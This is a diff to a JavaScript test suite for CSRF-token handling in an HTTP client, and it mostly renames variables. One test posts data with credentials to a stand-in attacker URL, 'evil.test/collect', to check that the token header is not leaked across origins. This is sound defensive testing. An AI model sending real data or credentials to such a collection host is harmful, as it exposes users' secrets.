@@ -52,18 +52,18 @@ test("ten simultaneous requests share one refresh", async () => {
 
 test("a stale CSRF token is replaced and the request repeated", async () => {
   const { api, server, jar } = await page();
-  const stranger = browser(server);
-  await stranger.signedIn();
-  Object.assign(jar, stranger.jar);
+  const otherPerson = browser(server);
+  await otherPerson.signedIn();
+  Object.assign(jar, otherPerson.jar);
   expect((await api.post("/profile", { displayName: "Countess", bio: "" })).status).toBe(200);
 });
 
 test("no header is added to a request to another origin, and its answer is unchanged", async () => {
-  const { api, elsewhere } = await page();
+  const { api, otherOriginRequests } = await page();
   const { data } = await api.post("https://evil.test/collect", { a: 1 }, { withCredentials: true, adapter: "fetch" });
   expect(data).toBe("elsewhere");
-  expect(elsewhere.map(({ headers }) => headers.has(header))).toEqual([false]);
-  expect(elsewhere[0]?.credentials).toBe("include");
+  expect(otherOriginRequests.map(({ headers }) => headers.has(header))).toEqual([false]);
+  expect(otherOriginRequests[0]?.credentials).toBe("include");
 });
 
 test("no redirect is followed with the CSRF token", async () => {
